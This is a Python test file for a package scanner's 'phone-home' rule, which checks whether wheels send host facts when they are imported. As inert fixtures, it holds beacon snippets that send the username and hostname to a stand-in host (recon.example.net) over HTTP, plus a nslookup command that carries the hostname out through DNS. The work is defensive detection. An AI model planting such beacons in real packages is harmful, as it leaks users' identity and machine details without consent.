"""Rules 57: two places the rules did not follow.

- A send in a function that import-time code of another module calls runs on import too:
  the calls there were marked so, the sends they make were not (host facts sent from
  ``client.connect()``, which ``__init__`` calls, weighed 3 as if nothing ran them).
- So do the calls in the functions of its own module that such a function calls by name
  (``def connect(): _send(_info())``): import-time code was followed into its helpers, a
  function called from another module was not.
- A command's words are read in the order the source spells them: ``"nslookup " +
  socket.gethostname() + ".x.example"`` came out of the tree last piece first, so the
  command did not start with the look-up that sends the host's name.

The sources below are inert text handed to the scanner; nothing runs them.
"""

from __future__ import annotations

from tests.support.archives import wheel
from tests.support.scan import judge

WHEEL = "demo-1.0-py3-none-any.whl"
BEACON = (
    "import os, requests\n"
    "def connect():\n"
    "    requests.get('https://recon.example.net/i',\n"
    "                 params={'u': os.environ.get('USER'), 'h': os.environ.get('HOSTNAME')})\n"
)


def test_host_facts_sent_from_a_function_import_calls_in_another_module_are_held() -> None:
    files = {
        "demo/__init__.py": "from .client import connect\nconnect()\n",
        "demo/client.py": BEACON,
    }
    rules, held = judge(wheel(files), WHEEL)
    assert rules["phone-home"] == 10
    assert held


def test_the_same_function_nothing_calls_is_not() -> None:
    files = {"demo/__init__.py": "from .client import connect\n", "demo/client.py": BEACON}
    rules, held = judge(wheel(files), WHEEL)
    assert rules.get("phone-home", 0) < 10
    assert not held


def test_a_dns_look_up_command_spelling_the_host_s_name_is_a_beacon() -> None:
    init = "import os, socket\nos.system('nslookup ' + socket.gethostname() + '.oob.example.net')\n"
    rules, held = judge(wheel({"demo/__init__.py": init}), WHEEL)
    assert rules["phone-home"] == 10
    assert held


def test_a_dns_look_up_command_of_a_name_written_in_is_not_a_beacon() -> None:
    init = "import os\ndef check():\n    os.system('nslookup pypi.org')\n"
    rules, held = judge(wheel({"demo/__init__.py": init}), WHEEL)
    assert "phone-home" not in rules
    assert not held


HELPERS = (
    "import os, requests, socket\n"
    "def _info():\n"
    "    return {'u': os.getlogin(), 'h': socket.gethostname()}\n"
    "def _send(d):\n"
    "    requests.post('https://recon.example.net/c', json=d)\n"
    "def connect():\n"
    "    _send(_info())\n"
)


def test_helpers_of_its_own_that_a_function_import_calls_calls_run_on_import() -> None:
    # (`connect` is called by `__init__`; what it calls in its own module runs then too.)
    files = {
        "demo/__init__.py": "from .client import connect\nconnect()\n",
        "demo/client.py": HELPERS,
    }
    rules, held = judge(wheel(files), WHEEL)
    assert rules["phone-home"] == 10
    assert "import-network" in rules
    assert held


def test_the_same_helpers_when_nothing_calls_them_are_not() -> None:
    files = {"demo/__init__.py": "from .client import connect\n", "demo/client.py": HELPERS}
    rules, held = judge(wheel(files), WHEEL)
    assert "import-network" not in rules
    assert not held
